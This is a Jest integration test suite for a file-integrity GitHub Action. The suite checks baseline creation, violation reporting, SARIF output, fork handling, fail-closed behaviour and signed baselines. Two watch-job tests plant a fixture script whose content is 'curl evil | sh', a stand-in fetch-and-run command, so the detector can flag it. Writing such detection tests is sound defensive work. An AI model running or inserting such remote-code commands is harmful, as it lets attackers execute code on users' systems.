/**
 * dist/index.js as a runner runs it, against the real @actions/cache client talking to the local cache
 * service stand-in (Twirp JSON + Azurite). One job sandbox keeps RUNNER_TEMP, like a hosted runner whose
 * temp path is the same in every run (the cache version hashes the archived path).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import * as fs from 'node:fs'
import * as path from 'node:path'
import { startCacheService, type CacheService } from '../../test-support/cache-service.js'
import { createJob, type Job, type StepResult } from '../../test-support/action-runner.js'

let svc: CacheService
let job: Job
let run = 2000

beforeAll(async () => {
  svc = await startCacheService()
  job = createJob({ baseEnv: svc.env })
  fs.mkdirSync(path.join(job.workspace, 'src'), { recursive: true })
  fs.mkdirSync(path.join(job.workspace, 'docs'), { recursive: true })
  fs.writeFileSync(path.join(job.workspace, 'src', 'app.js'), 'console.log("app")\n')
  fs.writeFileSync(path.join(job.workspace, 'src', 'lib.js'), 'export const x = 1\n')
  fs.writeFileSync(path.join(job.workspace, 'docs', 'guide.md'), '# guide\n')
}, 60_000)

afterAll(async () => {
  job?.cleanup()
  await svc?.stop()
})

/** Each call is a new workflow run (unique run id, so a unique cache key). */
function main(inputs: Record<string, string> = {}, env: Record<string, string> = {}): Promise<StepResult> {
  run++
  return job.main({ 'github-token': 'x', ...inputs }, { GITHUB_RUN_ID: String(run), ...env })
}

const write = (rel: string, text: string) => fs.writeFileSync(path.join(job.workspace, rel), text)
const errors = (r: StepResult) => r.commands.filter((c) => c.command === 'error')

describe('the action against the Actions cache', () => {
  it('creates the baseline on the first run', async () => {
    const r = await main()
    expect(r.exitCode).toBe(0)
    expect(r.outputs.result).toBe('baseline-created')
    expect(r.outputs['baseline-key']).toMatch(/^integrity-gate-v1-linux-default\./)
    expect(svc.entries()).toHaveLength(1)
    expect(fs.existsSync(r.outputs['manifest-file'])).toBe(true)
  })

  it('passes clean on the second run and saves nothing', async () => {
    const r = await main()
    expect(r.exitCode).toBe(0)
    expect(r.outputs.result).toBe('clean')
    expect(r.outputs.changes).toBe('0')
    expect(svc.entries()).toHaveLength(1)
    expect(r.summary).toMatch(/integrity-gate/)
  })

  it('fails on a modified file with annotations, summary and outputs', async () => {
    write('src/app.js', 'console.log("pwned")\n')
    const r = await main()
    expect(r.exitCode).toBe(1)
    expect(r.outputs).toMatchObject({ result: 'violation', modified: '1', changes: '1', added: '0' })
    const annotation = errors(r).find((c) => c.props.file === 'src/app.js')
    expect(annotation?.message).toMatch(/modified/)
    expect(r.summary).toContain('src/app.js')
    const report = JSON.parse(fs.readFileSync(r.outputs['report-file'], 'utf8'))
    expect(report.changes[0]).toMatchObject({
      path: 'src/app.js',
      kinds: ['modified'],
      severity: 'unexpected',
    })
    // A violation never rolls the baseline forward.
    expect(svc.entries()).toHaveLength(1)
    const sarifFile = path.join(job.temp, 'gate.sarif')
    const withSarif = await main({ 'sarif-file': sarifFile })
    const sarif = JSON.parse(fs.readFileSync(sarifFile, 'utf8'))
    expect(sarif.version).toBe('2.1.0')
    expect(sarif.runs[0].results).toHaveLength(1)
    expect(sarif.runs[0].results[0]).toMatchObject({
      ruleId: 'integrity-gate/modified',
      level: 'error',
      locations: [{ physicalLocation: { artifactLocation: { uri: 'src/app.js' } } }],
    })
    expect(withSarif.exitCode).toBe(1)
    write('src/app.js', 'console.log("app")\n')
  })

  it('lets an allowed change pass and rolls the baseline forward', async () => {
    write('docs/guide.md', '# guide v2\n')
    const r = await main({ allow: 'docs/**' })
    expect(r.exitCode).toBe(0)
    expect(r.outputs).toMatchObject({ result: 'changed', modified: '1' })
    expect(svc.entries()).toHaveLength(2)
    expect(r.outputs['baseline-key']).toBe(svc.entries()[1].key)
    const next = await main()
    expect(next.outputs.result).toBe('clean')
  })

  it('with fail-on critical, fails only on the protected change', async () => {
    write('docs/guide.md', '# guide v3\n')
    const unprotected = await main({ 'fail-on': 'critical', protected: 'src/**', 'update-baseline': 'never' })
    expect(unprotected.exitCode).toBe(0)
    expect(unprotected.outputs).toMatchObject({ result: 'changed', critical: '0' })

    write('src/lib.js', 'export const x = 2\n')
    const both = await main({ 'fail-on': 'critical', protected: 'src/**', 'update-baseline': 'never' })
    expect(both.exitCode).toBe(1)
    expect(both.outputs).toMatchObject({ result: 'violation', critical: '1', changes: '2' })
    expect(errors(both).map((c) => c.props.file)).toContain('src/lib.js')
    // The unprotected change is reported, but not as an error.
    expect(errors(both).map((c) => c.props.file)).not.toContain('docs/guide.md')
    write('docs/guide.md', '# guide v2\n')
    write('src/lib.js', 'export const x = 1\n')
  })

  it('never saves from a fork pull request, and says why', async () => {
    write('docs/guide.md', '# from a fork\n')
    const event = path.join(job.temp, 'fork-event.json')
    fs.writeFileSync(
      event,
      JSON.stringify({ pull_request: { number: 7, head: { repo: { full_name: 'evil/octo-repo' } } } }),
    )
    const r = await main(
      { allow: 'docs/**', 'update-baseline': 'always' },
      { GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: event },
    )
    expect(r.exitCode).toBe(0)
    expect(r.stdout).toMatch(/fork/)
    expect(svc.entries()).toHaveLength(2)
    write('docs/guide.md', '# guide v2\n')
  })

  it('fails closed when the cache service is down', async () => {
    await svc.setFault({ kind: 'down' })
    try {
      const r = await main()
      expect(r.exitCode).toBe(1)
      expect(r.stdout).toMatch(/baseline could not be read/i)
      expect(r.outputs.result).toBeUndefined()
    } finally {
      await svc.setFault(null)
    }
  }, 60_000)

  it('fails when the baseline was signed with another key', async () => {
    const signed = await main({ mode: 'baseline', 'signing-key': 'key-one' })
    expect(signed.exitCode).toBe(0)
    expect(signed.outputs.result).toBe('baseline-saved')
    const ok = await main({ 'signing-key': 'key-one' })
    expect(ok.outputs.result).toBe('clean')
    const other = await main({ 'signing-key': 'key-two' })
    expect(other.exitCode).toBe(1)
    expect(other.stdout).toMatch(/signature/i)
    const unsigned = await main()
    expect(unsigned.exitCode).toBe(1)
    expect(unsigned.stdout).toMatch(/signed/i)
  })

  it('watch-job: the post step catches a file changed during the job', async () => {
    const inputs = { 'watch-job': 'true', 'signing-key': 'key-one', 'update-baseline': 'never' }
    const m = await main(inputs)
    expect(m.exitCode).toBe(0)
    write('src/lib.js', 'export const x = "tampered"\n')
    fs.writeFileSync(path.join(job.workspace, 'src', 'dropped.sh'), 'curl evil | sh\n')
    const p = await job.post(inputs, { GITHUB_RUN_ID: String(run) })
    expect(p.exitCode).toBe(1)
    const files = errors(p).map((c) => c.props.file)
    expect(files).toEqual(expect.arrayContaining(['src/lib.js', 'src/dropped.sh']))
    expect(p.summary).toContain('dropped.sh')
    fs.rmSync(path.join(job.workspace, 'src', 'dropped.sh'))
    write('src/lib.js', 'export const x = 1\n')
  })

  it('watch-job without a signing key: the post step compares while it scans, and catches a change', async () => {
    // Unsigned, the post step compares the main step's scan line by line during its own scan (as verify
    // does) instead of decoding it: same answers.
    const inputs = { 'baseline-name': 'watch-unsigned', 'watch-job': 'true', 'update-baseline': 'never' }
    expect((await main({ 'baseline-name': 'watch-unsigned', mode: 'baseline' })).exitCode).toBe(0)
    expect((await main(inputs)).exitCode).toBe(0)
    const quiet = await job.post(inputs, { GITHUB_RUN_ID: String(run) })
    expect(quiet.exitCode).toBe(0)
    expect(quiet.stdout).toMatch(/nothing in the tree changed/)
    expect((await main(inputs)).exitCode).toBe(0)
    write('src/lib.js', 'export const x = "tampered"\n')
    fs.writeFileSync(path.join(job.workspace, 'src', 'dropped.sh'), 'curl evil | sh\n')
    try {
      const p = await job.post(inputs, { GITHUB_RUN_ID: String(run) })
      expect(p.exitCode).toBe(1)
      expect(errors(p).map((c) => c.props.file)).toEqual(
        expect.arrayContaining(['src/lib.js', 'src/dropped.sh']),
      )
    } finally {
      fs.rmSync(path.join(job.workspace, 'src', 'dropped.sh'))
      write('src/lib.js', 'export const x = 1\n')
    }
  })

  it('watch-job: a quiet job passes the post step', async () => {
    const inputs = { 'watch-job': 'true', 'signing-key': 'key-one', 'update-baseline': 'never' }
    expect((await main(inputs)).exitCode).toBe(0)
    const p = await job.post(inputs, { GITHUB_RUN_ID: String(run) })
    expect(p.exitCode).toBe(0)
    expect(p.stdout).toMatch(/nothing in the tree changed/)
  })
})
